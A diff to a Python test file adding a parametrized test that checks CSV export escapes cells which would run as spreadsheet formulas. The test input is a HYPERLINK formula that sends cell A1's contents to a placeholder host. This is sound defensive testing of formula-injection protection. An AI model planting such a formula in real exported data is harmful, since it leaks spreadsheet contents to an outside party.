@@ -6,6 +6,7 @@ import csv
 import io
 from typing import Any
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -63,6 +64,15 @@ def test_no_cell_of_a_file_is_a_formula(rows: list[dict[str, Any]]) -> None:
     assert said[0] == ["name", "size"]
     assert len(said) == 1 + len(rows)
     assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name, _ in said[1:])
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_what_would_run_in_a_spreadsheet_is_a_text_there(begins: str) -> None:
+    text = begins + 'HYPERLINK("http://x/?"&A1)'
+    for cell in (text, [text, "b"], (text,)):
+        (_, (name, size)) = csv.reader(io.StringIO(csv_text(table([{"name": cell, "size": -3}])), newline=""))
+        assert name.startswith(f"'{begins}")
+        assert size == "-3", "a number stays one"
 
 
 def test_a_second_table_has_names_of_its_own_in_the_url() -> None:
